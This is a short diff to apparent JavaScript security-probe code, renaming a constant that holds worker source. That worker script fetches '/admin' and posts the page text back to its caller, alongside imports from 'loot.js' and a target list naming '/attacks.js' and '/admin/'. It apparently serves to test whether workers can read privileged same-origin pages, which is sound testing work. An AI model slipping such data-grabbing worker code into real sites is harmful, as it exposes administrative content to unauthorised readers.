@@ -1,6 +1,6 @@
 import { grabAll } from './loot.js';
 
-const source = `
+const SOURCE = `
   const say = (to) => fetch('/admin').then((r) => r.text()).then((t) => to.postMessage(t), (e) => to.postMessage(String(e)));
   onconnect = ({ ports: [port] }) => say(port);
   if (typeof DedicatedWorkerGlobalScope !== 'undefined') say(self);
@@ -8,8 +8,8 @@ const source = `
 
 /** Group 7: whatever runs beside the page, or after it. */
 export function startWorkers() {
-  const blob = URL.createObjectURL(new Blob([source], { type: 'text/javascript' }));
-  const data = `data:text/javascript,${encodeURIComponent(source)}`;
+  const blob = URL.createObjectURL(new Blob([SOURCE], { type: 'text/javascript' }));
+  const data = `data:text/javascript,${encodeURIComponent(SOURCE)}`;
   const scripts = ['/worker.js', '/attacks.js', '/api/me', '/admin/', blob, data];
   const registrations = [
     '/worker.js',
